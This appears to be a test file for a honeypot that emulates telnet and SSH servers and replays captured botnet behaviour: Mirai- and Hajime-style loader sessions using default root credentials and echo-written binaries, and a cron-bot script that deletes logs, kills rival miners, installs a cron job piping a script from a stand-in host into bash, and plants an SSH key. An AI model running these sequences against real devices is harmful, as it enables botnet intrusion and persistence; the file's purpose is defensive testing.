"""Public sequences of bots run to their end, and what they bring is kept."""

from __future__ import annotations

import hashlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from clients import persona_of
from telnet_client import Client

LOADER = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\x00\x08\x00\x01\x00\x00\x00" + bytes(range(1, 256)) * 3
"""A small program for a little-endian MIPS, as a bot writes it by echo."""
PIECE = 128


def bot(port: int) -> Client:
    """A bot that has logged in by telnet, as all of them do."""
    client = Client(port)
    client.until(b"ogin: ")
    client.type(b"root")
    client.until(b"assword:")
    client.type(b"123456")
    client.until(b"# ")
    return client


def ask(client: Client, command: bytes, token: bytes) -> bytes:
    """What a command prints, up to the answer to a token that is no applet."""
    client.type(command + b"; /bin/busybox " + token)
    return client.until(token + b": applet not found")


def escaped(piece: bytes) -> bytes:
    return b"".join(b"\\x%02x" % byte for byte in piece)


def kept(folder: Path) -> set[str]:
    return {each.name for each in folder.iterdir()}


@pytest.fixture
def uploads(tmp_path: Path) -> Path:
    made = tmp_path / "uploads"
    made.mkdir()
    return made


@pytest.fixture
def camera(decoy: Callable[..., Any], uploads: Path) -> Any:
    settings = {"credentials": "root:123456"}
    return decoy("telnet", **persona_of("telnet", "busybox-camera", settings=settings), uploads=uploads)


def test_mirais_loader_learns_the_processor_and_leaves_its_program(camera: Any, uploads: Path) -> None:
    with bot(camera.port) as client:
        for word in (b"enable", b"system", b"shell", b"sh"):
            client.type(word)
        ask(client, b"true", b"ECCHI")

        processes = ask(client, b"/bin/busybox ps", b"ECCHI")
        mounts = ask(client, b"/bin/busybox cat /proc/mounts", b"ECCHI")
        writable = [line.split()[1] for line in mounts.splitlines() if b" rw" in line and b"tmpfs" in line]
        folder = next(each for each in writable if each != b"/dev")
        probe = b"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69%s' > %s/.nippon" % (folder, folder)
        probe += b"; /bin/busybox cat %s/.nippon; /bin/busybox rm %s/.nippon" % (folder, folder)
        proof = ask(client, probe, b"ECCHI")
        begin = (
            b"cd %s; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper"
            % folder
        )
        ask(client, begin, b"ECCHI")
        client.type(b"/bin/busybox cat /bin/echo")
        header = client.until(b"ELF")[-4:] + client.until(b"# ")
        tools = ask(client, b"/bin/busybox wget; /bin/busybox tftp", b"ECCHI")
        for at in range(0, len(LOADER), PIECE):
            sign = b">" if at == 0 else b">>"
            ask(client, b"echo -ne '%s' %s upnp" % (escaped(LOADER[at : at + PIECE]), sign), b"ECCHI")
        ended = ask(client, b"/bin/busybox chmod 777 upnp; ./upnp; ./dvrHelper telnet.mpsl", b"IHCCE")

    assert b" root     " in processes and b"kami" + folder in proof
    assert (header[4:6], header[18:20]) == (b"\x01\x01", b"\x08\x00")
    assert b"applet not found" not in tools.replace(b"ECCHI: applet not found", b"")
    assert b"not found" not in ended.replace(b"IHCCE: applet not found", b"")
    assert hashlib.sha256(LOADER).hexdigest() in kept(uploads)


def test_hajimes_loader_reads_a_header_and_writes_its_stub(camera: Any, uploads: Path) -> None:
    with bot(camera.port) as client:
        for word in (b"enable", b"shell", b"sh"):
            client.type(word)
        ask(client, b"cat /proc/mounts", b"KWVSH")

        ask(client, b"cd /var/tmp; cat .s || cp /bin/echo .s", b"KWVSH")
        read = b"tftp; wget; dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s"
        header = ask(client, read, b"KWVSH").rpartition(b"\x7fELF")[2]
        ask(client, b">.s; cp .s .i", b"KWVSH")
        for at in range(0, len(LOADER), PIECE):
            ask(client, b'echo -ne "%s" >> .i' % escaped(LOADER[at : at + PIECE]), b"KWVSH")
        ended = ask(client, b"chmod +x .i; ./.i; rm .s; echo over", b"KWVSH")

    assert (header[:2], header[14:16]) == (b"\x01\x01", b"\x08\x00")
    assert b"over" in ended
    assert hashlib.sha256(LOADER).hexdigest() in kept(uploads)


CRON_BOT = """#!/bin/bash
ulimit -n 65535
rm -rf /var/log/syslog
chattr -iua /tmp/ 2>/dev/null
ps aux | grep -v grep | grep -E 'kdevtmpfsi|xmrig' | awk '{print $2}' | xargs -r kill -9
get() {
  curl -m 1 -fsSL "$1" 2>/dev/null
}
cat > /etc/cron.d/zzh <<'END'
*/30 * * * * root (curl -s http://198.51.100.9/unk.sh||wget -q -O - http://198.51.100.9/unk.sh)|bash
END
mkdir -p /root/.ssh
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ bot" >> /root/.ssh/authorized_keys
if ! get http://127.0.0.1:9/kinsing > /tmp/kinsing; then
  printf '\\x7fELF' > /tmp/kinsing
fi
chmod +x /tmp/kinsing
history -c
echo "done $(grep -c unk.sh /etc/cron.d/*h) $(wc -c < /tmp/kinsing)"
"""


def test_a_cron_bots_script_is_kept_and_runs_to_its_end(
    decoy: Callable[..., Any], ssh: Any, uploads: Path
) -> None:
    settings = {"credentials": "root:123456"}
    server = decoy("ssh", **persona_of("ssh", "debian-12", settings=settings), uploads=uploads)

    ssh(server.port, "cat > /tmp/unk.sh", given=CRON_BOT)
    done = ssh(server.port, "bash /tmp/unk.sh; cat /etc/cron.d/zzh; tail -n 1 /root/.ssh/authorized_keys")

    lines = done.stdout.splitlines()
    assert (lines[0], done.stderr, done.returncode) == ("done 1 4", "", 0)
    assert lines[1].endswith("unk.sh)|bash") and lines[-1].endswith(" bot")
    assert hashlib.sha256(CRON_BOT.encode()).hexdigest() in kept(uploads)


def test_an_error_of_a_special_builtin_does_not_end_the_session(camera: Any) -> None:
    with bot(camera.port) as client:
        client.type(b". /nonexistent")
        client.type(b"set -Q")
        shown = ask(client, b"true", b"ECCHI")

    assert b"can't open '/nonexistent'" in shown
